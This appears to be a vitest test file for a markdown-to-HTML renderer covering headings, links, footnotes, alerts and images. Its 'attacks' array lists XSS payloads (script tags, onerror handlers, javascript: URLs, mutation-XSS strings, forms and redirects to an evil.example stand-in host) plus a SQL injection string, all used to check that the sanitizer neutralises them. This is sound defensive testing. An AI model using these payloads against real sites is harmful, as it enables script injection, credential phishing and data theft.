import { expect, test } from 'vitest'
import { parsePage } from '../parse/parse-page.ts'
import type { Destination } from './clean-links.ts'
import { renderPage, type RenderedPage } from './render-page.ts'

const anywhere = (href: string): Destination => ({ kind: 'external', href })
const render = (source: string | Uint8Array, resolve = anywhere): RenderedPage =>
  renderPage(parsePage({ path: 'content/plan.md', source }), {
    resolve,
    isDefinition: ({ info }) => info === 'limit',
  })
const htmlOf = ({ heading, sections }: RenderedPage): string =>
  [
    heading,
    ...sections.flatMap((section) => [
      section.heading ?? '',
      ...section.parts.map((part) => (part.kind === 'html' ? part.html : '')),
    ]),
  ].join('\n')
const html = (source: string, resolve = anywhere) => htmlOf(render(source, resolve))

test('a section comes in parts, so that a card can stand beside its rule', () => {
  const { sections } = render(
    'Intro.\n\n## Paid\n\nThree a month.\n\n```limit\nname: x\n```\n\nMore.\n\n```bash\nls\n```\n',
  )
  expect(
    sections.map(({ id, level, title, parts }) => [id, level, title, parts.map(({ kind }) => kind)]),
  ).toEqual([
    [undefined, 0, '', ['html']],
    ['paid', 2, 'Paid', ['html', 'definition', 'html']],
  ])
  const [before, definition, after] = sections[1]?.parts ?? []
  expect(before).toEqual({ kind: 'html', html: '<p data-lines="5-5">Three a month.</p>', lines: [5, 5] })
  expect(definition?.kind === 'definition' && definition.fence.lines).toEqual([7, 9])
  expect(after?.kind === 'html' && after.lines).toEqual([11, 15])
})

test('a definition inside a list or a folded block follows it, and the block stays whole', () => {
  const listed = render('1. One\n\n   ```limit\n   a: 1\n   ```\n\n2. Two\n').sections[0]?.parts ?? []
  expect(listed.map(({ kind }) => kind)).toEqual(['html', 'definition'])
  const folded = render(
    '<details>\n\n## Inside\n\n```limit\na: 1\n```\n\nText\n\n</details>\n\nAfter\n',
  ).sections
  expect(folded).toHaveLength(1)
  const [first, , last] = folded[0]?.parts ?? []
  expect(first?.kind === 'html' && first.html).toMatch(/^<details.*<h2 id="inside".*Text.*<\/details>$/s)
  expect(last?.kind === 'html' && last.html).toContain('After')
})

test('[D-11] the title is the only heading of the first level', () => {
  const page = render('---\ntitle: Marketing\n---\n# Mission <a name="why"></a>\n\n## Team\n')
  expect(page.heading).toBe('<h1>Marketing</h1>')
  expect(page.toc).toEqual([
    { id: 'mission', title: 'Mission', level: 2 },
    { id: 'team', title: 'Team', level: 3 },
  ])
  expect(page.sections[0]?.heading).toContain(
    '<h2 id="mission" data-lines="4-4"><span id="why"></span><span id="mission-"></span>Mission ',
  )
})

test('a heading that is the title is not shown twice, and keeps its anchor and its names', () => {
  const page = render('# The *plan*<a name="top-plan"></a>\n\nText\n\n## Next\n')
  expect(page.heading).toMatch(/^<h1 id="the-plan".*<span id="top-plan"><\/span>The <em>plan<\/em>.*<\/h1>$/)
  expect(page.sections.map(({ id, heading }) => [id, heading === undefined])).toEqual([
    ['the-plan', true],
    ['next', false],
  ])
  expect(page.toc.map(({ id }) => id)).toEqual(['next'])
})

test('headings have a permalink that says where it leads', () => {
  expect(html('## Paid "social"')).toContain('href="#paid-social">¶</a></h2>')
  expect(html('## Paid social')).toContain('aria-label="Link to “Paid social”"')
})

test('what GitHub shows, shows: tables, tasks, strikes, addresses', () => {
  expect(html('| a | |\n|--:|---|\n| 1 | 2 |')).toMatch(
    /<div class="table-scroll" role="group" aria-label="Table" tabindex="0"><table.*<th scope="col" class="align-right">a<\/th><td><\/td>/s,
  )
  expect(html('- [ ] one\n- [x] two')).toContain(
    '<input type="checkbox" disabled checked aria-label="Done"> two',
  )
  expect(html('~~old~~')).toContain('<s>old</s>')
  expect(html('www.example.com and a@example.com, not README.md')).toContain(
    '<a href="https://www.example.com"',
  )
  expect(html('not README.md')).not.toContain('<a')
  expect(html('```mermaid\na-->b\n```')).toContain('<code class="language-mermaid">a--&gt;b\n</code>')
})

test('alerts and footnotes show as GitHub has them', () => {
  expect(html('> [!WARNING]\n> Ask first.')).toMatch(
    /<blockquote class="alert alert-warning" data-lines="1-2">\s*<p class="alert-title">Warning<\/p>\s*<p data-lines="1-2">Ask first.<\/p>/,
  )
  expect(html('> [!WARNING] Ask first.')).not.toContain('alert')
  const noted = html(
    'One[^b] two[^a] three[^none] four[^b].\n\n[^a]: First\n  line.\n[^b]: **Second**.\n\nAfter',
  )
  expect(noted).toContain('<a id="fnref-b" class="footnote-mark" aria-label="Note 1" href="#fn-b">1</a>')
  expect(noted).toContain('three[^none]')
  expect(noted).toMatch(
    /<div class="footnote" id="fn-a" data-lines="3-4"><p data-lines="3-4">First\s+line.<\/p>\s*<a class="footnote-back"/,
  )
  expect(noted.match(/id="fnref-b"/g)).toHaveLength(1)
})

test('links go where the handbook says, and a dead one is no link', () => {
  const resolve = (href: string): Destination =>
    href === 'b.md'
      ? { kind: 'page', href: '/b/' }
      : href.startsWith('http')
        ? { kind: 'external', href }
        : { kind: 'missing', hint: 'Did you mean /b/?' }
  expect(html('[b](b.md)', resolve)).toContain('<a href="/b/">b</a>')
  expect(html('<a href="b.md" target="_blank">b</a>', resolve)).toContain('<a href="/b/">b</a>')
  expect(html('[x](https://example.com)', resolve)).toContain(
    '<a href="https://example.com" rel="external noopener">x</a>',
  )
  expect(html('[c](c.md)', resolve)).toContain(
    '<a class="dead-link" title="Nothing is there. Did you mean /b/?">c</a>',
  )
  expect(html('![A team](c.png)', resolve)).toContain(
    '<span class="dead-image" title="This picture is not there.">A team (c.png)</span>',
  )
  expect(html('![A team](https://example.com/c.png)', resolve)).toContain('alt="A team" loading="lazy"')
})

test('[D-02] [D-30] dead links, empty ones and dead anchors are findings with their line', () => {
  const missing = (): Destination => ({ kind: 'missing', hint: 'Did you mean /train/?' })
  const { findings } = render(
    '# A B\n\n[t](train/educate)\n[e]() [here](#a-b) [so](#A-B) [gone](#a-c) ![p](p.png)\n',
    missing,
  )
  expect(findings.map(({ code, line, mend }) => [code, line, mend])).toEqual([
    ['dead-link', 3, 'Did you mean /train/?'],
    ['empty-link', 4, undefined],
    ['anchor-unlike', 4, 'Write "#a-b".'],
    ['dead-anchor', 4, 'Did you mean "#a-b"?'],
    ['dead-image', 4, 'Did you mean /train/?'],
  ])
})

test('an embedded page is a link to it, and what follows it is still there', () => {
  expect(
    html(
      '<figure class="video_container">\n  <iframe src="https://video.example/1" allowfullscreen></iframe>\n</figure>\n\nAfter',
    ),
  ).toMatch(
    /<figure.*<a class="embed" href="https:\/\/video.example\/1" rel="external noopener">Open on video.example<\/a>\s*<\/figure>.*After/s,
  )
  expect(html('<iframe src="https://video.example/1">\n\nAfter')).toContain('<p data-lines="3-3">After</p>')
})

test('[D-18] comments do not show; words in angle brackets do', () => {
  expect(html('## A\n\n<!-- DO NOT CHANGE THIS ANCHOR -->\n\nText <!-- x --> more')).not.toMatch(
    /ANCHOR|<!--| x /,
  )
  expect(html('Write `x` to <your name>, not <b>us</b>')).toContain('&lt;your name&gt;, not <b>us</b>')
})

const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<b onmouseover="alert(1)">x</b>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '[x](data:text/html,<script>alert(1)</script>)',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<details open ontoggle=alert(1)>x</details>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name=q><button>Sign in</button></form>',
  '<object data="x"></object><embed src="x">',
  '<div style="position:fixed;inset:0">x</div>',
  '<style>*{display:none}</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<!--><script>alert(1)</script>-->',
  '<x-y onclick=alert(1)>',
  '```"><script>alert(1)</script>\nx\n```',
  '# <script>alert(1)</script> "onload=alert(1)',
  '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
  '---\ntitle: <script>alert(1)</script>\n---\ntext',
  '<a name=\'x" onclick="alert(1)\'>y</a>',
  '# <a name="&quot; onclick=&quot;alert(1)"></a>Title',
  '<input type="image" src="x" onerror="alert(1)">',
  "'; drop table persons; --",
]
/** Every tag of a piece of HTML, so that text that only looks like one is not taken for it. */
const tags = (made: string) => made.match(/<[^>]*>/g)?.join('\n') ?? ''

test.each(attacks)('made to harm, does nothing: %s', (attack) => {
  const made = tags(html(`${attack}\n\nAfter`))
  expect(made).not.toMatch(
    /<(?:script|style|iframe|object|embed|form|button|base|meta|svg|math|textarea|x-y)\b/i,
  )
  expect(made).not.toMatch(/\s(?:on\w+|style|srcdoc|action)\s*=/i)
  expect(made).not.toMatch(/(?:href|src)="\s*(?:javascript|data:text|data:image\/svg|vbscript)/i)
  expect(html(`${attack}\n\nAfter`)).toContain('After')
})

test('raw HTML cannot take an id from a heading, give one twice, or use one of the product', () => {
  const made = html(
    '<div id="plan">x</div>\n\n<p id="a">1</p>\n\n<p id="a">2</p>\n\n<p id="fh-menu">3</p>\n\n# Other\n\n# Plan\n',
  )
  expect(made.match(/id="[^"]*"/g)?.toSorted()).toEqual(['id="a"', 'id="other"', 'id="plan"'])
})

test('raw HTML that stays open ends with its own part', () => {
  const { sections } = render('<div><b>\n\nIn it\n\n## Next\n\nText\n')
  expect(sections[0]?.parts[0]).toMatchObject({ html: expect.stringMatching(/<\/b><\/div>$/) })
  expect(sections[1]?.parts[0]).toMatchObject({ html: '<p data-lines="7-7">Text</p>' })
})

test('raw HTML cannot claim source lines', () => {
  expect(html('<p data-lines="1-99">x</p>')).toContain('<p data-lines="1-1">x</p>')
})

test('a binary page says that it is none', () => {
  const page = render(Buffer.from([0, 1, 2]))
  expect(htmlOf(page)).toContain('it is not text')
  expect(page.findings).toMatchObject([{ code: 'not-text' }])
})

test('a page of 5 MB renders', () => {
  const paragraph =
    'Teams *may* start three campaigns, see [the page](other.md) and https://example.com/x.\n\n'
  const page = render(paragraph.repeat(Math.ceil(5_000_000 / paragraph.length)))
  expect(htmlOf(page).length).toBeGreaterThan(5_000_000)
  expect(page.findings).toEqual([])
})

test('a page past all measure is cut with a finding, and deep or open HTML does not hold up the rest', () => {
  expect(render('\n'.repeat(200_001) + 'end').findings).toMatchObject([
    { code: 'page-too-long', line: 200_000 },
  ])
  for (const evil of ['<div>', '<!-- ', '<b>x ', '[', '> ', '*a **b '])
    expect(htmlOf(render(`${evil.repeat(5000)}\n\n# End\n`)), evil).toContain('<h1')
})

test('a picture of our own keeps its room before it comes, however it is written', () => {
  const sized = (href: string): Destination => ({ kind: 'file', href, size: { width: 800, height: 600 } })
  const room = (source: string) => {
    const picture = /<img[^>]*>/.exec(html(source, sized))?.[0] ?? ''
    return ['width', 'height'].map((name) => new RegExp(` ${name}="(\\d+)"`).exec(picture)?.[1])
  }
  expect(room('![Floor](floor.png)')).toEqual(['800', '600'])
  expect(room('<img src="floor.png" alt="Floor">')).toEqual(['800', '600'])
  expect(room('Text <img src=floor.png> text')).toEqual(['800', '600'])
  expect(room('<figure>\n<img src="floor.png" width="400">\n</figure>')).toEqual(['400', '300'])
  expect(room('<img src="floor.png" height="60px">')).toEqual(['80', '60'])
  expect(room('<img src="floor.png" width="10" height="10">')).toEqual(['10', '10'])
  expect(room('<img src="floor.png" width="50%">')).toEqual(['800', '600'])
  expect(room('![Floor](floor.png){: width="200"}')).toEqual(['200', '150'])
  expect(room('{{< figure src="floor.png" width="200" >}}')).toEqual(['200', '150'])
})

test('a picture that a shortcode shows is one of the page’s pictures', () => {
  const { links } = parsePage({
    path: 'a.md',
    source: 'Text\n\n{{< figure src="floor.png" alt="Floor" >}}\n\nAnd {{% image "b.png" %}} here\n',
  })
  expect(links).toEqual([
    { href: 'floor.png', text: 'Floor', line: 3, use: 'image' },
    { href: 'b.png', text: '', line: 5, use: 'image' },
  ])
})
